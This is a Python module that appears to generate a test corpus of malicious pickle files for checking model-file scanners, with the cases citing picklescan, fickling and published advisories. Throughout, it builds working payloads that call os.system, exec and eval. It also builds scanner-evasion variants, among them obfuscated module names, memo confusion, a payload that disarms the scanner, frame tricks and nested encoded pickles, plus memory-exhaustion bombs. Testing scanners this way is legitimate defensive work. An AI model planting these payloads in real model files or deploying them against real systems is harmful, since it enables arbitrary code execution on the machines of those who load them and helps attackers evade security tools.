"""Pickle virtual machine tricks: opcodes, memo, names, frames, streams, expansion."""

from __future__ import annotations

import base64
import struct
import zlib

from .asm import Build, G, Inst, New, Obj, R, dump, encode, g, line, text, wrap
from .core import Registry
from .gadgets import CMD, CODE, GETATTR, MODULE_OS, attr

SPEC = "pickletools opcode documentation"
FK = "fickling "
PS = "picklescan "
SG = b"\x93"
CALL = text(CMD, 4) + b"\x85R"
CALL2 = text(CMD, 2) + b"\x85R"
SYS = dump(R(g("os:system"), CMD), 4)


def u8(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    return text(value, 4)


def put(i: int) -> bytes:
    """BINPUT."""
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    """BINGET."""
    return b"h" + bytes([i])


def _names(reg: Registry) -> None:
    """Ways to spell the module and the function."""
    def add(family: str, gadget: str, code: bytes, text_: str, src: str = SPEC, how: str = "pickle") -> None:
        reg.add("name-" + family, gadget, ("model.pkl", code), "pickle", src, text_, verify=how)

    def sg(module: bytes, name: bytes) -> bytes:
        return wrap(module + name + SG + CALL, 4, frame=False)

    for mod, fn in (("os", "system"), ("subprocess", "getoutput")):
        key = f"{mod}.{fn}"
        esc = lambda s: b"V" + b"".join(b"\\u%04x" % ord(c) for c in s) + b"\n"
        add("unicode-escape", key, sg(esc(mod), esc(fn)), "STACK_GLOBAL names as protocol-0 \\u escapes")
        hexs = lambda s: b"S'" + b"".join(b"\\x%02x" % ord(c) for c in s) + b"'\n"
        add("string-hex-escape", key, sg(hexs(mod), hexs(fn)), "STACK_GLOBAL names as STRING with \\x escapes")
        octs = lambda s: b'S"' + b"".join(b"\\%03o" % ord(c) for c in s) + b'"\n'
        add("string-octal-escape", key, sg(octs(mod), octs(fn)), "STACK_GLOBAL names as STRING with octal escapes")
        bstr = lambda s: b"T" + struct.pack("<I", len(s)) + s.encode()
        add("binstring", key, sg(bstr(mod), bstr(fn)), "STACK_GLOBAL names from BINSTRING")
        sbstr = lambda s: b"U" + bytes([len(s)]) + s.encode()
        add("short-binstring", key, sg(sbstr(mod), sbstr(fn)), "STACK_GLOBAL names from SHORT_BINSTRING")
        u64 = lambda s: b"\x8d" + struct.pack("<Q", len(s)) + s.encode()
        add("binunicode8", key, sg(u64(mod), u64(fn)), "STACK_GLOBAL names from BINUNICODE8")
        tos = lambda s: encode(R(GETATTR, R(g("_codecs:decode"), s.encode(), "ascii"), "strip"), 4) + b")R"
        add("computed-decode", key, sg(tos(mod), tos(fn)), "STACK_GLOBAL names computed by _codecs.decode")
        join = lambda s: encode(R(attr("", "join"), list(s)), 4)
        add("computed-join", key, sg(join(mod), join(fn)), "STACK_GLOBAL names joined from letters",
            "modelscan issue 331")
        rev = lambda s: encode(R(g("operator:concat"), s[:1], s[1:]), 4)
        add("computed-concat", key, sg(rev(mod), rev(fn)), "STACK_GLOBAL names concatenated")
        fmt = lambda s: encode(R(attr("{}{}", "format"), s[:1], s[1:]), 4)
        add("computed-format", key, sg(fmt(mod), fmt(fn)), "STACK_GLOBAL names formatted")
    add("python2-builtin", "__builtin__.eval", line(b"c", "__builtin__", "eval") + text(CODE, 0) + b"\x85R.", "Python 2 module name")
    add("python2-mapping", "__builtin__.reduce", wrap(encode(
        R(R(G("__builtin__", "reduce"), GETATTR, ["system"], R(g("__builtin__:__import__"), "os")), CMD), 2), 2),
        "names mapped by fix_imports")
    for host, path in (("logging", "os.system"), ("pathlib", "os.system"), ("tarfile", "os.system"),
                       ("collections", "_sys.modules"), ("random", "_os.system"), ("zipfile", "shutil.os.system"),
                       ("statistics", "random._os.system"), ("inspect", "os.popen"), ("json.decoder", "scanner.re.enum.sys.exit")):
        expr = R(attr(R(attr(G(host, path), "get"), "os"), "system"), CMD) if path.endswith("modules") else \
            R(G(host, path), *(() if path.endswith("exit") else (CMD,)))
        add("dotted-through-module", f"{host}.{path}", dump(expr, 4),
            "dotted STACK_GLOBAL name reaching another module", FK + "GHSA-5j3x-jp52-966f")
    add("dotted-torch", "torch.serialization.os.system", dump(R(G("torch.serialization", "os.system"), CMD), 4),
        "dotted name through a framework module that looks safe", FK + "GHSA-5j3x-jp52-966f")
    add("dotted-torch", "numpy.lib.os.system", dump(R(G("numpy", "os.system"), CMD), 4), "dotted name through numpy")
    add("dotted-global-opcode", "os.path.os.system", b"\x80\x04" + line(b"c", "posixpath", "os.system") + CALL + b".",
        "GLOBAL opcode with a dotted name after PROTO 4")
    for mod in ("collections", "numpy"):
        code = encode(R(attr(R(attr(G(mod, "__builtins__"), "get"), "eval"), "__call__"), CODE), 4)
        add("module-builtins", f"{mod}.__builtins__", wrap(code), "eval taken from a module's __builtins__", "modelscan issue 330")
    for start in ("builtins:object.__subclasses__", "builtins:tuple.__base__"):
        add("class-graph", start, dump(R(attr(R(attr(g("builtins:object"), "__subclasses__")), "__len__")) if "object" in start
            else R(attr(R(GETATTR, g(start), "__subclasses__"), "__call__")), 4), "walk to object.__subclasses__()", "Python sandbox-escape literature")
    add("function-globals", "os.path.join.__globals__", dump(R(attr(R(attr(g("os:path.join.__globals__"), "get"), "os"), "system"), CMD), 4), "os reached through a function's __globals__")
    add("function-globals", "random.choice.__func__.__globals__", dump(R(attr(R(attr(g("random:choice.__func__.__globals__"), "get"), "_os"), "system"), CMD), 4),
        "os reached through a method's globals")
    add("class-init-globals", "warnings.catch_warnings.__init__", dump(R(attr(R(attr(attr(g("warnings:catch_warnings.__init__"), "__globals__"), "get"), "sys"), "exit"), 0), 4),
        "sys reached through __init__.__globals__")


def _calls(reg: Registry) -> None:
    """Ways to make the call."""
    def add(family: str, gadget: str, code: bytes, text_: str, src: str = SPEC) -> None:
        reg.add("call-" + family, gadget, ("model.pkl", code), "pickle", src, text_, verify="pickle")

    for mod, fn, arg in (("os", "system", CMD), ("posix", "system", CMD), ("subprocess", "getoutput", CMD), ("pty", "spawn", "true")):
        key = f"{mod}.{fn}"
        add("inst", key, encode(Inst(mod, fn, arg), 0) + b".", "INST calls the function", PS + "release 0.0.11; " + FK + "pull request 108")
        add("obj", key, wrap(encode(Obj(G(mod, fn), arg), 2), 2), "OBJ calls the function", SPEC)
        add("obj-pop", key, wrap(encode(Obj(G(mod, fn), arg), 4) + b"0" + encode({"a": 1}, 4)),
            "OBJ result popped, an innocent value returned", FK + "GHSA-mxhj-88fx-4pcv")
        add("reduce-pop", key, wrap(encode(R(G(mod, fn), arg), 4) + b"0" + encode({"a": 1}, 4)), "REDUCE result popped")
        add("reduce-pop-mark", key, wrap(b"(" + encode(R(G(mod, fn), arg), 4) + b"1" + encode([1], 4)), "REDUCE result dropped with POP_MARK")
    add("newobj", "subprocess.Popen", dump(Build(New(g("subprocess:Popen"), [CMD]), {"a": 1}), 2), "NEWOBJ on a class")
    add("newobj", "functools.partial", dump(R(New(g("functools:partial"), g("os:system"), CMD)), 2), "NEWOBJ makes a partial, REDUCE calls it")
    add("newobj-ex", "functools.partial", dump(R(New(g("functools:partial"), g("os:system"), kwargs={"command": CMD})), 4), "NEWOBJ_EX with keywords")
    add("newobj-ex", "builtins.map", dump(R(g("builtins:list"), New(g("builtins:map"), g("os:system"), [CMD], kwargs={})), 4), "NEWOBJ_EX on map")
    add("copyreg-newobj", "copyreg.__newobj__", dump(R(R(g("copyreg:__newobj__"), g("functools:partial"), g("os:system"), CMD)), 4), "copyreg.__newobj__ in place of the opcode")
    add("copyreg-newobj", "copyreg.__newobj_ex__", dump(R(R(g("copyreg:__newobj_ex__"), g("functools:partial"), (g("os:system"),), {"command": CMD})), 4), "copyreg.__newobj_ex__")
    for op, width in ((b"\x82", 1), (b"\x83", 2), (b"\x84", 4)):
        code = 0x40 + width
        ext = op + code.to_bytes(width, "little")
        body = encode(R(g("copyreg:add_extension"), "os", "system", code), 2) + b"0" + ext + CALL2
        add("extension-registry", f"EXT{width}", wrap(body, 2), "the extension registry is filled by the pickle itself", "copyreg documentation")
    add("build-setstate", "functools.partial", dump(R(Build(R(g("functools:partial"), g("builtins:print")), (g("os:system"), (CMD,), {}, None))), 4),
        "BUILD gives __setstate__ a new function", FK + "GHSA-6ggj-6f2q-f7mx")
    add("build-setstate", "class-setstate-exec", wrap(encode(Build(Build(R(R(g("builtins:type"), "T", (), {})), (None, {"__setstate__": g("os:system")})), CMD), 4)),
        "BUILD plants __setstate__, the next BUILD calls it")
    add("build-module", "torch._utils", dump(Build(G("torch", "_utils"), (None, {"_rebuild_tensor": g("builtins:eval")})), 4),
        "BUILD overwrites attributes of a module", PS + "data file sys_module_override")
    add("build-module", "collections.abc", dump([Build(G("collections", "abc"), {"run": g("builtins:eval")}), R(G("collections", "abc.run"), CODE)], 4), "BUILD adds eval to a safe module, then calls it there")
    add("setitem-environ", "os.environ", wrap(encode(g("os:environ"), 4) + encode("CORDON_TEST", 4) + encode("1", 4) + b"s"), "SETITEM on os.environ")
    add("setitem-sys-modules", "sys.modules", wrap(encode(g("sys:modules"), 4) + encode("cordon_mod", 4) + encode(MODULE_OS, 4) + b"s0"
        + encode(R(G("cordon_mod", "system"), CMD), 4)), "SETITEM aliases a module under an innocent name", PS + "data file sys_module_override")
    add("setitem-sys-modules", "sys.modules-frozen", wrap(encode(g("sys:modules"), 4) + b"(" + encode("sklearn", 4) + encode(MODULE_OS, 4) + b"u0"
        + encode(R(G("sklearn", "system"), CMD), 4)), "SETITEMS disguises os as sklearn")
    add("append-sys-path", "sys.path", wrap(encode(g("sys:path"), 4) + encode("cordon-does-not-exist", 4) + b"a"), "APPEND on sys.path")
    add("append-method", "logging.root.handlers", wrap(encode(g("logging:root.handlers"), 4) + b"(" + encode("x", 4) + b"e"), "APPENDS mutates interpreter state")
    add("append-callable", "class-append-exec", wrap(encode(R(g("builtins:type"), "T", (), {"append": g("builtins:exec")}), 4) + encode(CODE, 4) + b"a"),
        "APPEND calls a planted append", SPEC)
    add("additems-callable", "class-add-exec", wrap(encode(R(g("builtins:type"), "T", (), {"add": g("builtins:exec")}), 4) + b"(" + encode(CODE, 4) + b"\x90"),
        "ADDITEMS calls a planted add", SPEC)
    add("setitem-callable", "class-setitem-eval", wrap(encode(R(R(g("builtins:type"), "T", (), {"__setitem__": R(g("functools:partialmethod"), g("builtins:print"))})), 4)
        + encode("k", 4) + encode("v", 4) + b"s"), "SETITEM calls a planted __setitem__")
    add("dict-getitem", "__builtins__.get", dump(R(R(attr(attr(g("builtins:__dict__"), "get"), "__call__"), "eval"), CODE), 4), "eval from the builtins dictionary")
    add("persid", "BINPERSID", wrap(encode(("storage", g("os:system"), "0", "cpu", 1), 2) + b"Q", 2), "a global handed to persistent_load")
    add("scanner-tampering", "picklescan.scanner", dump([Build(G("picklescan", "scanner"), {"_unsafe_globals": {}}), R(g("os:system"), CMD)], 4),
        "the pickle disarms a scanner first", FK + "pull request 249")
    add("scanner-tampering", "fickling.hook", dump([R(g("fickling.hook:run_hook")), R(g("os:system"), CMD)], 4), "the pickle calls a scanner's hook", FK + "pull request 249")
    add("unused-variable", "dead-dictionary-key", dump({R(g("os:system"), CMD): 1, "a": 2}, 4), "the call hides as a dictionary key", FK + "unused-variable analysis")


def _memo(reg: Registry) -> None:
    """Memo and stack confusion."""
    def add(family: str, gadget: str, body: bytes, text_: str, src: str = SPEC, frame: bool = False) -> None:
        reg.add("memo-" + family, gadget, ("model.pkl", wrap(body, 4, frame)), "pickle", src, text_, verify="pickle")

    for mod, fn in (("os", "system"), ("subprocess", "getoutput")):
        key = f"{mod}.{fn}"
        m, f = u8(mod), u8(fn)
        safe = u8("torch._utils") + b"\x940" + u8("_rebuild_tensor_v2") + b"\x940"
        add("put-memoize-confusion", key, m + put(0) + b"0" + f + put(1) + b"0" + u8("torch") + b"\x940" + u8("LongStorage") + b"\x940" + get(0) + get(1) + SG + CALL,
            "PUT and MEMOIZE mixed so a wrong memo model sees a safe global", PS + "issue 14")
        add("overwritten", key, safe + m + put(0) + b"0" + f + put(1) + b"0" + get(0) + get(1) + SG + CALL, "memo entries overwritten later", PS + "issue 22")
        add("long-index", key, m + b"r" + struct.pack("<I", 70000) + b"0" + f + b"r" + struct.pack("<I", 70001) + b"0" + b"j" + struct.pack("<I", 70000)
            + b"j" + struct.pack("<I", 70001) + SG + CALL, "LONG_BINPUT and LONG_BINGET")
        add("text-index", key, m + b"p7\n0" + f + b"p0000008\n0" + b"g007\n" + b"g8\n" + SG + CALL, "text PUT/GET with leading zeros")
        add("dup", key, m + b"2" + b"0" + f + b"20" + SG + CALL, "DUP and POP between the names")
        add("interleaved", key, m + b"N0" + b"(1" + f + b"I5\n0" + SG + CALL, "junk pushed and popped between the names")
        add("pop-mark", key, m + f + b"(" + u8("torch") + u8("FloatStorage") + b"1" + SG + CALL, "safe names dropped by POP_MARK")
        add("callable-far", key, encode(G(mod, fn), 4) + put(3) + b"0" + b"".join(encode(i, 4) + b"0" for i in range(2000)) + get(3) + CALL, "callable fetched long after it was made")
        add("names-in-tuple", key, encode(R(R(GETATTR, R(g("importlib:import_module"), mod), fn), CMD), 4), "module and name only as call arguments")
        tail = encode(R(G(mod, fn), CMD), 4)
        add("missing-key-after", key, tail + b"0" + get(99) + u8("x") + SG, "the payload runs, then an unknown memo key", PS + "GHSA-9726-w42j-3qjr")
        add("type-confusion-after", key, tail + b"0" + encode(5, 4) + put(0) + b"0" + get(0) + u8(mod) + SG, "the payload runs, then integers reach STACK_GLOBAL", PS + "type-confusion data file")
        add("invalid-bytes-after", key, tail + b"\x8c\x04\xff\xfe\xfd\xfc" + b"0", "the payload runs, then invalid UTF-8", PS + "malicious-invalid-bytes data file")
    add("dead-safe-global", "torch.FloatStorage", u8("torch") + u8("FloatStorage") + b"00" + u8("os") + u8("system") + SG + CALL,
        "safe names pushed and popped directly before", PS + "issue 22")


def _streams(reg: Registry) -> None:
    """What surrounds the payload in the byte stream."""
    def add(family: str, gadget: str, code: bytes, text_: str, src: str = SPEC, how: str = "pickle", name: str = "model.pkl") -> None:
        kind = "structural" if how == "none" else "load"
        reg.add("stream-" + family, gadget, (name, code), "pickle", src, text_, kind=kind, verify=how)

    benign = dump({"epoch": 1, "w": [1.0, 2.0]}, 4)
    for mod, fn in (("os", "system"), ("builtins", "exec")):
        key, arg = f"{mod}.{fn}", CMD if mod == "os" else CODE
        for proto in (0, 2, 4):
            call = encode(R(G(mod, fn), arg), proto)
            k = f"{key}-p{proto}"
            head = b"" if proto == 0 else b"\x80" + bytes([proto])
            add("broken-tail", k, head + call + b"0X\xff\xff\xff\x7fabc", "the pickle breaks after the payload", "ReversingLabs nullifAI; " + PS + "GHSA-9gvj-pp9x-gcfr")
        call = encode(R(G(mod, fn), arg), 4)
        add("truncated", key, b"\x80\x04" + call + b"0(", "no STOP opcode", "ReversingLabs nullifAI")
        add("unknown-opcode", key, b"\x80\x04" + call + b"0\xfe\xfd.", "an invalid opcode after the payload", "ReversingLabs nullifAI")
        add("second-pickle", key, benign + dump(R(G(mod, fn), arg), 4), "a second pickle after STOP, as with repeated load()", PS + "multiple pickles", "pickle-stream")
        add("fifth-pickle", key, benign * 4 + dump(R(G(mod, fn), arg), 2), "the fifth pickle of a stream", PS + "multiple pickles", "pickle-stream")
        add("after-newlines", key, benign + b"\n" * 64 + dump(R(G(mod, fn), arg), 4), "a pickle after padding behind STOP", PS + "GHSA-9gvj-pp9x-gcfr", "none")
        add("padding-before", key, b"\x80\x04" + b"N0" * 40000 + call + b".", "80 KB of no-ops before the payload")
        add("padding-strings", key, dump([reg.filler(1 << 20), R(G(mod, fn), arg)], 4), "one megabyte of bytes before the payload")
        add("many-protos", key, b"\x80\x02\x80\x04\x80\x05" + call + b"\x80\x00.", "PROTO repeated mid-stream")
        add("no-proto", key, call + b".", "protocol-4 opcodes without PROTO")
        add("proto-1", key, b"\x80\x01" + line(b"c", mod, fn) + text(arg, 1) + b"\x85R.", "PROTO 1, opcodes of protocol 2")
        add("frame-too-short", key, b"\x80\x04\x95" + struct.pack("<Q", len(mod) + 2) + call + b".", "FRAME shorter than its content", FK + "frame boundary analysis")
        add("frame-straddle", key, b"\x80\x04\x95" + struct.pack("<Q", 4) + b"N" + call[:2] + b"Z" + call[2:] + b".",
            "an opcode straddles the end of its frame: CPython drops the rest of the frame, linear readers do not", FK + "frame boundary analysis")
        add("frame-zero", key, b"\x80\x04\x95" + bytes(8) + call + b".", "FRAME of length zero", FK + "frame boundary analysis")
        add("frame-inside-frame", key, b"\x80\x04\x95" + struct.pack("<Q", len(call) + 12) + b"N0\x95" + struct.pack("<Q", 5) + call + b".", "a frame inside a frame", FK + "frame boundary analysis")
    add("mid-file", "os.system", reg.filler(4096) + SYS, "a pickle at offset 4096 of other bytes, loaded by seeking there", "polyglot literature", "none", "embeddings.dat")
    add("mixed-protocols", "os.system", b"(dp0\nVk\np1\n" + u8("os") + u8("system") + SG + CALL + b"s.", "text and protocol-4 opcodes mixed")
    add("leading-text", "os.system", b"I1\n0V" + b"license text " * 20 + b"\n0" + encode(R(g("os:system"), CMD), 0) + b".", "readable text leads")


def _nested(reg: Registry) -> None:
    """A pickle within a pickle."""
    def add(gadget: str, expr: object, text_: str, src: str = "modelaudit pull request 153") -> None:
        stored = gadget.startswith("data-only")
        reg.add("nested-pickle", gadget, ("model.pkl", dump(expr, 4)), "pickle", src, text_,
                kind="structural" if stored else "load", verify="none" if stored else "pickle")

    inner = dump(R(g("os:system"), CMD), 2)
    loads = g("pickle:loads")
    add("base64", R(loads, R(g("base64:b64decode"), base64.b64encode(inner))), "base64 then pickle.loads")
    add("zlib", R(loads, R(g("zlib:decompress"), zlib.compress(inner))), "zlib then pickle.loads")
    add("hex", R(loads, R(attr(g("builtins:bytes"), "fromhex"), inner.hex())), "hex then pickle.loads")
    add("latin1", R(loads, R(g("_codecs:encode"), inner.decode("latin-1"), "latin1")), "text then pickle.loads", PS + "data file malicious13a")
    add("rot13-exec", R(g("builtins:exec"), R(g("codecs:decode"), "cevag('pbeqba')", "rot13")), "rot13 then exec")
    add("data-only", {"weights": inner, "kind": "cached"}, "an inner pickle kept as bytes for a later loads()")
    add("data-only-base64", {"weights": base64.b64encode(SYS).decode()}, "an inner pickle kept as base64 text")
    add("double", R(loads, dump(R(loads, inner), 4)), "two levels")
    add("exec-zlib-base64", R(g("builtins:exec"), R(g("zlib:decompress"), R(g("base64:b64decode"), base64.b64encode(zlib.compress(CODE.encode()))))), "decode chain into exec")


def _expansion(reg: Registry) -> None:
    """Resource exhaustion while loading."""
    def add(gadget: str, code: bytes, text_: str, src: str = "fickling expansion-attack analysis") -> None:
        reg.add("expansion", gadget, ("model.pkl", code), "pickle", src, text_, kind="structural")

    laughs = u8("lol") + put(0) + b"0"
    for i in range(1, 40):
        laughs += b"(" + get(i - 1) * 10 + b"t" + put(i) + b"0"
    add("billion-laughs-tuple", wrap(laughs + get(39) + b"}" + get(39) + b"Ns", 4, False), "40 memo levels of 10, then hashed")
    doubling = u8("A" * 64) + put(0) + b"0"
    for i in range(1, 45):
        doubling += encode(g("operator:concat"), 4) + get(i - 1) * 2 + b"\x86R" + put(i) + b"0"
    add("string-doubling", wrap(doubling + get(44), 4, False), "a string doubled 44 times")
    add("nested-lists", wrap(b"]" * 200000 + b"a" * 199999, 4, False), "200,000 nested lists")
    add("nested-tuples", wrap(b"N" + b"\x85" * 200000, 4, False), "200,000 nested tuples")
    add("repeat-bytes", dump(R(g("operator:mul"), b"A" * 16, 2**40), 4), "bytes times 2**40")
    add("bytearray-size", dump(R(g("builtins:bytearray"), 2**40), 4), "bytearray of 2**40")
    add("memo-index", wrap(b"Nr\xff\xff\xff\x7f", 4, False), "LONG_BINPUT at 2**31-1 makes the memo table huge", "CPython issue on unpickling memory use (gh-115952)")
    add("binbytes8-length", wrap(b"\x8e" + struct.pack("<Q", 2**46) + b"abc", 4, False), "BINBYTES8 claims 64 TiB", "CPython issue on unpickling memory use (gh-115952)")
    add("frame-length", b"\x80\x04\x95" + struct.pack("<Q", 2**46) + b"N.", "FRAME claims 64 TiB", "CPython issue on unpickling memory use (gh-115952)")
    add("long4-length", wrap(b"\x8b" + struct.pack("<i", 2**30) + b"\x01", 4, False), "LONG4 claims a gigabyte")
    add("range-list", dump(R(g("builtins:list"), R(g("builtins:range"), 2**45)), 4), "list(range(2**45))")
    power = encode(R(g("operator:pow"), 10, 10**9), 4)
    add("big-power", wrap(power), "10 ** 10**9")


def register(reg: Registry) -> None:
    """All pickle machine cases."""
    _names(reg)
    _calls(reg)
    _memo(reg)
    _streams(reg)
    _nested(reg)
    _expansion(reg)
